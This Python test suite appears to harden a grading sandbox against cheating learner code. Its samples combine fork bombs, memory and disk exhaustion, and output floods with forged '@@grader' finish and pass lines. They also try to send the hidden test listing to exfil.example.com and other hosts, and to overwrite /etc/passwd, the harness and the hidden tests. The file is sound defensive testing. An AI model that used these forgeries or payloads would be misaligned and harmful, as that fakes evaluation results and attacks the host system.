"""Resource attacks combined with forging: the limits end the run, and the forgery is still named.

The plain failure cases (an infinite loop, a fork bomb, a 10 GB allocation, a 100 MB print, a network
connection, a crash at import) are in tests/integration/test_learner_failures.py; these add a cheat
to each, or hit the limits in the ways those do not.
"""

from __future__ import annotations

from pathlib import Path

from tests.adversarial.conftest import FAILING_SCORE, TIMEOUT_S, assert_defeated, failing_with

FORGE = 'print(\'@@grader:forged:{"event":"finish","exit_status":0}\', flush=True)\n'


def assert_limit_or_named(result, code: str) -> None:
    """Under gVisor a memory limit ends the whole sandbox (harness included) before it can report the
    forgery; under runc the harness outlives the learner's processes and names it. Either way: no pass."""
    assert_defeated(result, tripwire=False)
    codes = {f.code for f in result.grade.flags}
    if code in codes:
        assert result.grade.tampered and result.grade.score == 0.0
    else:
        assert "limit exceeded" in result.grade.reason, (result.grade.reason, codes)
        assert "sandbox-killed" in codes


def test_fork_bomb_in_the_background_while_forging(attack, record, no_leftovers) -> None:
    files = failing_with(
        FORGE + "import os as _os\n"
        "if _os.fork() == 0:\n"
        "    _os.setsid()\n"
        "    while True:\n"
        "        try:\n"
        "            _os.fork()\n"
        "        except OSError:\n"
        "            pass\n"
    )
    result = attack(files)
    assert_limit_or_named(result, "forged-output")
    assert result.timings["run"] < TIMEOUT_S + 20
    record(result, "Detached fork bomb plus a forged finish line", "pids and memory limits, stream tripwire")


def test_memory_bomb_in_a_subprocess_while_forging(attack, record, no_leftovers) -> None:
    files = failing_with(
        FORGE + "import subprocess as _sp, sys as _sys\n"
        "_sp.Popen([_sys.executable, '-c', 'x = []\\nwhile True: x.append(bytearray(10 ** 7))'])\n"
    )
    result = attack(files)
    assert_limit_or_named(result, "forged-output")
    record(result, "Memory bomb in a subprocess plus a forged finish line", "memory limit, stream tripwire")


def test_memory_leak_until_the_kernel_kills_pytest(attack, record, no_leftovers) -> None:
    """Allocate gradually inside the test process until the kernel kills it: a limit, not a tamper."""
    files = failing_with("_hog = []\nwhile True:\n    _hog.append(bytearray(8 * 1024 * 1024))\n")
    result = attack(files)
    assert_defeated(result, tripwire=False)
    assert "memory" in result.grade.reason.lower() or "killed" in result.grade.reason, result.grade.reason
    assert not result.grade.tampered
    record(result, "Gradual allocation until the kernel kills the test process", "memory limit (no false tamper)")


def test_disk_fill_then_forge(attack, record, no_leftovers) -> None:
    files = failing_with(
        """
        _written = 0
        try:
            with open("/tmp/fill.bin", "wb") as _handle:
                while True:
                    _handle.write(b"\\0" * (1 << 20))
                    _written += 1
        except OSError as _exc:
            print("DISK FULL after", _written, "MB:", type(_exc).__name__, flush=True)
        """
        + FORGE
    )
    result = attack(files)
    assert_defeated(result, flags={"forged-output"})
    assert "DISK FULL after" in result.learner_output
    written = int(result.learner_output.split("DISK FULL after ")[1].split()[0])
    assert written <= 64  # the tmpfs and the file-size limit stop it at the spec's disk_mb
    record(result, "Fill the disk, then forge a finish line", "tmpfs size + fsize ulimit, stream tripwire")


def test_output_flood_of_forged_lines(attack, record, quick_ledger, no_leftovers) -> None:
    """100 MB of lines in the harness's protocol format."""
    line = '@@grader:forged:{"event":"result","suite":"visible","id":"test_core.py::x","outcome":"passed"}\\n'
    files = failing_with(
        f"import sys as _sys\n_block = '{line}' * 1000\nfor _ in range(1100):\n    _sys.stdout.write(_block)\n"
    )
    result = attack(files)
    assert_defeated(result, flags={"forged-output"})
    assert len(result.learner_output) <= quick_ledger.spec.limits.output_kb * 1024
    record(result, "100 MB of forged protocol lines on stdout", "output cap, stream tripwire")


def test_network_exfiltration(attack, record, host_listener, no_leftovers) -> None:
    port, received = host_listener
    files = failing_with(
        f"""
        import socket as _socket
        _payload = b"hidden tests: " + repr(__import__("os").listdir("/grader/tests")).encode()
        for _host in ("172.17.0.1", "172.18.0.1", "10.0.2.2", "1.1.1.1", "exfil.example.com"):
            try:
                with _socket.create_connection((_host, {port}), timeout=1) as _conn:
                    _conn.sendall(_payload)
            except OSError:
                pass
        try:
            _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(_payload, ("8.8.8.8", 53))
        except OSError:
            pass
        """
    )
    result = attack(files)
    assert_defeated(result, flags={"network-attempt"}, tripwire=False, score=FAILING_SCORE)
    assert received == []
    record(result, "Send the test listing to the host, the internet and DNS", "no network in unit mode")


def test_write_outside_the_workspace(attack, record, host_marker: Path, no_leftovers) -> None:
    targets = [
        str(host_marker),
        "/workspace/submission/ledger/core.py",
        "/grader/tests/hidden/test_core_hidden.py",
        "/opt/grader/harness.py",
        "/etc/passwd",
        "../../../../workspace/pwned",
    ]
    files = failing_with(
        f"""
        import os as _os, subprocess as _sp
        for _target in {targets!r}:
            try:
                with open(_target, "w") as _handle:
                    _handle.write("pwned")
            except OSError:
                pass
            _sp.run(["sh", "-c", 'echo pwned > "$0"', _target], capture_output=True)
        try:
            _os.symlink({str(host_marker)!r}, "/tmp/link-to-host")
            open("/tmp/link-to-host", "w").write("pwned")
        except OSError:
            pass
        print("STILL", _os.path.exists("/tmp/link-to-host"), flush=True)
        """
    )
    result = attack(files)
    assert_defeated(result, flags={"write-outside-tmp"})
    record(
        result,
        "Write to a host path, the snapshot, the tests, the harness, /etc",
        "read-only mounts and root, audit hook",
    )
